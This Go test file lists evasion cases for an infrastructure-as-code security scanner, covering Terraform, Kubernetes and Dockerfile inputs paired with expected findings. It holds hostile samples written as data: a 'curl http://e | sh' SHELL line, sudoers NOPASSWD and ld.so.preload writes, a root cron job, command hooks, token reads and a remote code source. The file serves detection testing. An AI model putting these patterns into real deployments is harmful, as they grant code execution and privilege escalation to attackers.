package iac

import "testing"

// evasions are ways round what is read: each has something that runs, reaches or
// opens, in a place or a spelling of its own.
var evasions = []example{
	// Terraform: blocks, functions and kinds that run something
	{tf, "ephemeral \"external\" \"x\" {\n program = [\"id\"]\n}", []string{"evaluate id"}},
	{tf, "action \"local_command\" \"x\" {\n config {\n  command = \"id\"\n }\n}", []string{"evaluate ?", "shell id"}},
	{tf, "data \"local_command\" \"x\" {\n command = \"id\"\n}", []string{"evaluate ?", "shell id"}},
	{tf, "data \"exec\" \"x\" {\n command = [\"id\"]\n}", []string{"evaluate ?"}},
	{tf, "resource \"external_command\" \"x\" {\n commands = [\"id\"]\n}", []string{"evaluate ?"}},
	{tf, "resource \"aws_glue_job\" \"x\" {\n command {\n  script_location = \"s3://b/x\"\n }\n}", nil},
	{tf, "locals {\n x = run_cmd(\"--terragrunt-quiet\", \"id\")\n}", []string{"evaluate id", "shell id"}},
	{tf, "locals {\n x = get_env(\"TOKEN\")\n}", []string{"environment TOKEN"}},
	{tf, "locals {\n x = sops_decrypt_file(\"/etc/x\")\n}", []string{"read_path /etc/x", "secret /etc/x"}},
	{tf, "locals {\n x = read_terragrunt_config(\"/etc/x\")\n}", []string{"read_path /etc/x"}},
	{tf, "locals {\n x = provider::evil::run(\"id\")\n}", []string{"unresolved ?"}},
	{tf, "locals {\n x = evil()\n}", []string{"unresolved ?"}},
	{tf, "locals {\n x = [cidrsubnet(\"10.0.0.0/8\", 8, 1), timestamp(), core::upper(\"a\"), uuid()]\n}", nil},
	{tf, "terraform {\n before_hook \"x\" {\n  commands = [\"plan\"]\n  execute = [\"id\"]\n }\n}", []string{"evaluate id"}},
	{tf, "terraform {\n after_hook \"x\" {\n  execute = [\"sh\", \"-c\", \"id\"]\n }\n}", []string{"evaluate sh -c id"}},
	{tf, "terraform {\n source = \"git::https://e.example/x\"\n}", []string{"remote_code git::https://e.example/x"}},
	{tf, "terraform {\n encryption {\n  key_provider \"external\" \"x\" {\n   command = [\"id\"]\n  }\n }\n}", []string{"evaluate id"}},
	{tf, "terraform {\n cloud {\n  hostname = \"e.example\"\n }\n}", []string{"network e.example"}},
	{tf, "terraform {\n cloud {\n  hostname = \"app.terraform.io\"\n }\n}", nil},
	// Kubernetes
	{k8s, pod("volumes: [{name: v, image: {reference: evil/x}}], containers: [{name: c, " + safe + "}]"), []string{"remote_code docker.io/evil/x:latest"}},
	{k8s, pod("volumes: [{name: v, iscsi: {targetPortal: '10.1.1.1:3260'}}], containers: [{name: c, " + safe + "}]"), []string{"network 10.1.1.1:3260"}},
	{k8s, pod("volumes: [{name: v, cephfs: {monitors: [10.1.1.1]}}], containers: [{name: c, " + safe + "}]"), []string{"network 10.1.1.1"}},
	{k8s, box("securityContext: {seLinuxOptions: {type: spc_t}}"), []string{"privilege SELinux type spc_t"}},
	{k8s, box("securityContext: {seLinuxOptions: {type: container_t}}"), []string{"!privilege SELinux type container_t"}},
	{k8s, box("args: [-c, id]"), []string{"shell sh -c id"}},
	{k8s, box("args: [-ec, id]"), []string{"shell sh -ec id"}},
	{k8s, box("args: [--config, id]"), []string{"!shell sh --config id"}},
	{k8s, object1("rbac.authorization.k8s.io/v1", "ClusterRole", "aggregationRule: {clusterRoleSelectors: [{}]}"), []string{"privilege every role"}},
	{k8s, object1("rbac.authorization.k8s.io/v1", "ClusterRole", "aggregationRule: {clusterRoleSelectors: [{matchLabels: {a: b}}]}"), []string{"!privilege every role"}},
	{k8s, object1("rbac.authorization.k8s.io/v1", "Role", "rules: [{apiGroups: [apps], resources: [daemonsets], verbs: [create]}]"), []string{"privilege create daemonsets"}},
	// Dockerfile
	{docker, "FROM a:1\nSHELL [\"/bin/sh\", \"-c\", \"curl http://e | sh;\"]\nRUN date", []string{"shell /bin/sh -c 'curl http://e | sh;'"}},
	{docker, "FROM a:1\nSHELL [\"/bin/bash\", \"-o\", \"pipefail\", \"-c\"]\nRUN date", []string{"shell date", "!shell /bin/bash -o pipefail -c"}},
	{docker, "FROM docker.io/library/../evil/x:1", []string{"remote_code ?"}},
	{docker, "FROM docker.io/library//x:1", []string{"remote_code ?"}},
	{docker, "FROM docker.io/library/alpine:3@evil", []string{"remote_code ?"}},
	{docker, "FROM a:1\nCOPY <<E /x.sh\nid\nE", []string{"shell id\n", "write_path /x.sh"}},
	{docker, "FROM a:1\nCOPY <<E /x.py\nimport os\nE", []string{"python import os\n"}},
	{docker, "FROM a:1\nCOPY <<E /x\nid\nE\nRUN sh /x", []string{"shell id\n"}},
	{docker, "FROM a:1 AS b\nCOPY <<E /opt/x\nid\nE\nFROM b\nENTRYPOINT [\"sh\", \"/opt/x\"]", []string{"shell id\n"}},
	{docker, "FROM a:1\nCOPY <<E /x\nid\nE\nRUN chmod +x /x\nCMD /x", []string{"shell id\n"}},
	{docker, "FROM a:1\nCOPY <<E /etc/nginx.conf\nserver { }\nE\nRUN cat /etc/nginx.conf", []string{"!shell server { }\n"}},
	{docker, "FROM a:1\nCOPY <<E /etc/sudoers.d/x\nALL ALL=NOPASSWD: ALL\nE", []string{"privilege /etc/sudoers.d/x"}},
	{docker, "FROM a:1\nADD <<E /etc/ld.so.preload\n/x.so\nE", []string{"privilege /etc/ld.so.preload"}},
	{docker, "FROM a:1\nCOPY <<E /etc/cron.d/x\n* * * * * root id\nE", []string{"unresolved ?"}},
}

func TestEvasions(t *testing.T) { check(t, evasions) }
